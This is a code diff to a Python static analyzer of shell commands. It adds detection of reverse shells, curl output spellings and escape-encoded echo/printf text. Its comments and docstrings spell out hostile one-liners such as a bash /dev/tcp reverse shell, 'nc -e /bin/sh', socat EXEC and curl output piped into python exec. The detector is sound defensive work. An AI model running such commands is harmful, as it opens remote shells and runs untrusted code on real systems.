@@ -878,9 +878,14 @@ class _Walker:
     ) -> Stream:  # fmt: skip
         if body.type == "command":
             return self.command(body, env, depth, stdin, background, redirects)
+        before = len(self.analysis.commands)
         out = self.statement(body, env, depth, stdin, background)
         if redirects:  # ``{ ...; } > /dev/sda``: the group's output lands there
-            self.emit(Cmd([lit(":")], _text(body)[:200], redirects, stdin, env.cwd), env)
+            if any(t.value.startswith(("/dev/tcp/", "/dev/udp/")) for _, t in redirects) and any(
+                c.program in SHELLS for c in self.analysis.commands[before:]
+            ):  # ``true && bash -i >& /dev/tcp/h/p 0>&1``: a shell on the network
+                self.finding("remote-code", _text(body)[:200])
+            self.emit(Cmd([lit(":")], _text(body)[:200], redirects, out, env.cwd), env)
         return out
 
     def redirect(self, node: Node, env: _Env, depth: int) -> tuple[str, Word | None]:
@@ -1161,6 +1166,8 @@ class _Walker:
         for code, positional in unwrapped.code:
             # ``sh -c CODE``, ``eval CODE``: CODE reads the command's stdin (``| sh -c 'cat|sh'``)
             self.nested_code(code, env, depth, stdin, cmd, positional)
+        if _reverse_shell(cmd):  # a shell whose input is the network
+            self.finding("remote-code", cmd.written)
         if stdin.tainted and _runs_its_input(program, cmd.words[1:]):
             # ``curl .. | python3 -c 'exec(sys.stdin.read())'``, ``| awk '{system($0)}'``
             self.finding("remote-code", self.pipe_text(cmd))
@@ -1327,7 +1334,7 @@ class _Walker:
                     text = _echo_output(cmd.words)
                     stored = Stream(text=text) if text is not None else UNKNOWN_STREAM
                 elif (
-                    cmd.program == "cat"
+                    cmd.program in ("cat", ":")
                     and len(cmd.words) == 1
                     and op in (">", ">|")
                     and cmd.stdin.text is not None
@@ -2230,9 +2237,9 @@ _STDOUT = ("-", "/dev/stdout", "/dev/fd/1", "/proc/self/fd/1")
 def _fetch_to_stdout(program: str, args: Sequence[Word]) -> bool:
     values = [w.value for w in args]
     if program == "curl":
-        for i, v in enumerate(values[:-1]):
-            if v in ("-o", "--output") and values[i + 1] in _STDOUT:
-                return True
+        out = _curl_output(values)
+        if out is not None:
+            return out in _STDOUT
         return not any(v in ("-o", "-O", "--output", "--remote-name", "--remote-name-all")
                        or (v.startswith("-") and not v.startswith("--") and ("o" in v or "O" in v))
                        or v.startswith("--output=") for v in values)  # fmt: skip
@@ -2255,8 +2262,25 @@ def _fetch_to_stdout(program: str, args: Sequence[Word]) -> bool:
     return True
 
 
+def _curl_output(values: Sequence[str]) -> str | None:
+    """curl's ``-o FILE`` in any spelling (``-o-``, ``-so -``, ``-fsSLo FILE``, ``--output=``)."""
+    for i, v in enumerate(values):
+        if v in ("-o", "--output") and i + 1 < len(values):
+            return values[i + 1]
+        if v.startswith("--output="):
+            return v.partition("=")[2]
+        if v.startswith("-") and not v.startswith("--") and "o" in v[1:]:
+            rest = v[v.index("o", 1) + 1 :]
+            if rest:
+                return rest
+            return values[i + 1] if i + 1 < len(values) else None
+    return None
+
+
 def _fetch_output_file(program: str, args: Sequence[Word]) -> str | None:
     values = [w.value for w in args]
+    if program == "curl" and _curl_output(values) not in (None, *_STDOUT):
+        return _curl_output(values)
     urls = [v for v in values if "://" in v or (not v.startswith("-") and "." in v)]
     remote = posixpath.basename(urls[-1].split("?", 1)[0].rstrip("/")) if urls else ""
     if program == "curl" and any(
@@ -2284,6 +2308,24 @@ def _fetch_output_file(program: str, args: Sequence[Word]) -> str | None:
 _RUNS_INPUT = re.compile(
     r"\b(?:exec|eval|system|compile|popen|spawn|subprocess|qx|fork)\b|`|\|\s*\""
 )
+
+
+def _reverse_shell(cmd: Cmd) -> bool:
+    """``bash -i >& /dev/tcp/h/p 0>&1``, ``nc -e /bin/sh h p``, ``ncat --sh-exec``,
+    ``socat TCP:h:p EXEC:sh``: a shell reading commands from the network."""
+    program = cmd.program
+    values = [w.value for w in cmd.words[1:]]
+    if program in SHELLS:
+        return any(t.value.startswith(("/dev/tcp/", "/dev/udp/")) for _, t in cmd.redirects)
+    if program in ("nc", "ncat", "netcat"):
+        return any(
+            v in ("-e", "-c", "--exec", "--sh-exec", "--lua-exec")
+            or v.startswith(("--exec=", "--sh-exec=", "--lua-exec="))
+            for v in values
+        )
+    if program == "socat":
+        return any(v.upper().startswith(("EXEC:", "SYSTEM:")) for v in values)
+    return False
 
 
 def _runs_its_input(program: str, args: Sequence[Word]) -> bool:
@@ -2396,18 +2438,26 @@ def _echo_output(words: Sequence[Word]) -> str | None:
             newline = newline and "n" not in values[0]
             values = values[1:]
         text = " ".join(values)
+        if escapes:  # echo -e reads ``\0NNN`` as octal (``$'..'`` reads ``\NNN``)
+            text = re.sub(r"\\0([0-7]{1,3})", lambda m: chr(int(m.group(1), 8)), text)
         return (_ansi_c(text) if escapes else text) + ("\n" if newline else "")
     if not values:
         return None
     fmt, rest = values[0], values[1:]
     if "%" in fmt.replace("%%", ""):
-        pieces = re.split(r"%[-0-9.]*[sbdq]", fmt)
+        split = re.split(r"%[-0-9.]*([sbdq])", fmt)
+        pieces, kinds = split[0::2], split[1::2]
         if len(pieces) - 1 >= 1 and rest:
             out = []
             for i, piece in enumerate(pieces):
                 out.append(_ansi_c(piece))
-                if i < len(pieces) - 1:
-                    out.append(_ansi_c(rest[i]) if i < len(rest) else "")
+                if i < len(pieces) - 1 and i < len(rest):
+                    # %b reads escapes in its argument (``\0NNN`` octal too); %s takes it as is
+                    arg = rest[i]
+                    if kinds[i] == "b":
+                        arg = _ansi_c(re.sub(r"\\0([0-7]{1,3})",
+                                             lambda m: chr(int(m.group(1), 8)), arg))  # fmt: skip
+                    out.append(arg)
             return "".join(out)
         return _ansi_c(re.sub(r"%[-0-9.]*[sbdq]", "", fmt))
     return _ansi_c(fmt.replace("%%", "%"))
@@ -2421,6 +2471,9 @@ def _eval_of_env_setup(code: Word) -> bool:
         )
         and not code.tainted
         and code.producers[0] in ENV_SETUP | {"kubectl", "helm"}
+        and (
+            code.producers[0] in ENV_SETUP or "completion" in code.text
+        )  # ``kubectl get cm -o jsonpath=..`` is data from the cluster, not set-up
     )
 
 
